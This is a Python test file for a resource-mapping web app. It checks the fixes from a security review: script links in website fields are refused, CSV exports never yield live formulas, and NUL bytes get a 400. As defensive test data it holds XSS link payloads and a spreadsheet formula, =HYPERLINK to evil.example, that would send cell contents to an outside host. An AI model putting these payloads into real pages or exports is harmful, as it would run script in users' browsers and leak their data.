"""The lower findings of the security review (#15): links that cannot run script, CSV
cells that are never formulas, a NUL byte that is the caller's mistake, not a 500."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from typing import Any

import pytest
from bs4 import BeautifulSoup

from resourcemap.models import Area, Organisation
from tests.factories import run_in_db
from tests.html_helpers import attr, one
from tests.web.api.test_planning import sign_in
from tests.web.api.test_planning import url as url  # the fixture, re-exported
from tests.web.api.test_staff import World, room_payload, signed_in
from tests.web.api.test_staff import world as world  # the fixture, re-exported

SCRIPT_LINKS = [
    "javascript:alert(1)",
    "JavaScript:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "http://",
    "//evil.example",
]


@pytest.mark.parametrize("website", SCRIPT_LINKS)
def test_an_organisation_website_that_is_no_web_link_is_refused(world: World, website: str) -> None:
    with world.make(world.url) as client:
        headers = signed_in(client, "admin")
        made = client.post(
            "/api/v1/organisations",
            json={"name_zh": "链接机构", "type": "ngo", "website": website},
            headers=headers,
        )
        listing = client.post(
            "/api/v1/resources", json=room_payload(website=website), headers=headers
        )
    assert made.status_code == 400, made.text
    assert "website" in made.json()["fields"]
    assert listing.status_code == 400, listing.text
    assert "website" in listing.json()["fields"]


def test_an_organisation_with_a_web_link_is_saved(world: World) -> None:
    with world.make(world.url) as client:
        made = client.post(
            "/api/v1/organisations",
            json={"name_zh": "链接机构", "type": "ngo", "website": "HTTPS://help.example.cn/"},
            headers=signed_in(client, "admin"),
        )
    assert made.status_code == 201, made.text


@pytest.mark.parametrize("field", ["name_zh", "name_en", "description", "phone", "external_id"])
def test_a_nul_byte_in_an_organisation_is_a_400_naming_the_field(world: World, field: str) -> None:
    """On PostgreSQL a NUL byte reached the database and was a 500; everywhere it is now
    refused with the field by the API, and dropped by the admin's form."""
    body = {"name_zh": "机构", "type": "ngo", field: "机构\x00名"}
    with world.make(world.url) as client:
        made = client.post("/api/v1/organisations", json=body, headers=signed_in(client, "admin"))
        page = client.get(f"/staff/organisations/{world.ids['own_org']}/edit")
        token = attr(
            one(BeautifulSoup(page.text, "html.parser"), "input[name=csrf_token]"), "value"
        )
        edited = client.post(
            f"/staff/organisations/{world.ids['own_org']}/edit",
            data={**body, "csrf_token": token},
            follow_redirects=False,
        )
    assert made.status_code == 400, made.text
    assert field in made.json()["fields"]
    # The form drops a NUL byte no one types (listing_form.text): saved, without it.
    assert edited.status_code == 303, edited.text

    async def names() -> list[str]:
        return [o.name_zh + o.name_en + o.description for o in await Organisation.all()]

    assert not any("\x00" in n for n in run_in_db(world.url, names))


FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"详情")'


def test_planning_csv_cells_are_never_formulas(url: str, make_client: Callable[..., Any]) -> None:
    async def rename() -> None:
        await Area.filter(code="449901001001").update(name_zh=FORMULA)
        await Area.filter(code="449901001").update(name_zh="@SUM(A1:A9)")

    run_in_db(url, rename)
    with make_client(url) as client:
        sign_in(client, "planner")
        tables: dict[str, list[dict[str, Any]]] = {}
        for path in ("/api/v1/coverage.csv?level=community", "/api/v1/indicators.csv"):
            response = client.get(path)
            assert response.status_code == 200, (path, response.text)
            tables[path] = list(csv.DictReader(io.StringIO(response.text.lstrip("\ufeff"))))
    cells = [str(v) for rows in tables.values() for row in rows for v in row.values()]
    assert "'" + FORMULA in cells  # the name is still there, as text
    assert not [c for c in cells if c.startswith(("=", "@", "+"))]
    # Numbers are numbers still: no apostrophe in front of a figure.
    shares = [row["share"] for row in tables["/api/v1/coverage.csv?level=community"]]
    assert shares and all(s == "" or float(s) >= 0 for s in shares)
